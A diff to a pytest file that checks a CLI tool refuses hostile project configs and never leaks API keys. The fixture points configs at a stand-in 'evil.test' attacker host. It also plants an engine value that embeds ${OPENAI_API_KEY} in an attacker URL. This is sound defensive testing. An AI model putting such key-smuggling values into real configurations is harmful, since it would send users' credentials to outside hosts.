@@ -10,6 +10,7 @@ from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
+from articles import article, section, sentence
 from llm import FakeModel
 from servers import Reply, ScriptedServer
 from test_pipeline import NoContents, world
@@ -82,13 +83,17 @@ def hostile(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Hostile
     for name, key in KEYS.items():
         monkeypatch.setenv(name, key)
     with ScriptedServer(Reply(401)) as attacker, FakeModel(answers()) as model:
-        for path in (folder / name for name in ("storm.toml", "pyproject.toml", ".env", "topics.csv")):
+        for path in (
+            folder / name for name in ("storm.toml", "pyproject.toml", ".env", "topics.csv", "experiment.toml")
+        ):
             path.write_text(path.read_text().replace("http://evil.test", attacker.url))
         monkeypatch.chdir(folder)
         made = Hostile(folder, attacker, model)
         with RunStore.create(folder / "runs", "Silk Road", "storm") as run:
             run.begin(Settings.build(made.settings()))
             run.update_state(engine=f"searxng:{attacker.url}/${{OPENAI_API_KEY}}", status="stopped")
+            (run.folder / "events.jsonl").touch()
+            (run.folder / "article.json").write_text(article(section("Goods", sentence("Silk."))).to_json())
         given = Settings.build(made.settings()).model_dump(mode="json", exclude_unset=True)
         rows = [TopicStatus(1, TopicRequest("Silk Road", {"search": f"searxng:{attacker.url}"}))]
         BatchStore.create(folder / "runs", "batch", rows, settings=given, at_once=1, repeated=0).close()
@@ -112,15 +117,20 @@ def saved(hostile: Hostile, name: str) -> str:
         ["estimate", "Silk Road"],
         ["batch", "topics.csv"],
         ["compile", "draft", "--train", "notes"],
+        ["resume", "{run}"],
+        ["write", "Silk Road", "--programs", "compiled"],
+        ["experiment", "run", "experiment.toml"],
         ["serve", "--api"],
         ["mcp"],
     ],
 )
 def test_what_would_ask_models_is_refused(hostile: Hostile, command: list[str]) -> None:
-    result = run(*command)
+    result = run(*(part.format(run=saved(hostile, "run.json")) for part in command))
     assert result.exit_code == 2, result.output
-    (line,) = result.stderr.splitlines()
-    assert "run `storm trust" in line and "api_base" in line
+    *_, line = result.stderr.splitlines()
+    is_experiment = command[0] == "experiment"
+    assert ("add --trust" if is_experiment else "run `storm trust") in line
+    assert ("api_key_env" if is_experiment else "api_base") in line
     assert not any(key in result.output for key in KEYS.values())
     hostile.check()
 
@@ -133,16 +143,21 @@ def test_what_only_looks_leaves_it_out_and_says_so(hostile: Hostile) -> None:
     for command in (
         ["runs"],
         ["show", saved(hostile, "run.json")],
-        ["export", saved(hostile, "run.json"), "--to", "markdown"],
+        ["export", saved(hostile, "run.json"), "--to", "docx,epub,wikitext,bibtex"],
         ["assets", "verify"],
         ["assets", "list"],
         ["search", "engines"],
+        ["experiment", "report", "."],
         ["experiment", "estimate", "experiment.toml"],
+        ["compile", "list"],
+        ["compile", "show", "compiled"],
         ["trust", "--list"],
     ):
         result = run(*command)
         assert "unexpected" not in result.stderr, result.stderr
+        assert result.exit_code == 0 or command[0] in {"experiment", "compile", "assets"}, result.output
         assert not any(key in result.output for key in KEYS.values())
+        assert not any(sign in result.output for sign in "\x1b\x07\u202e")
         hostile.check()
 
 
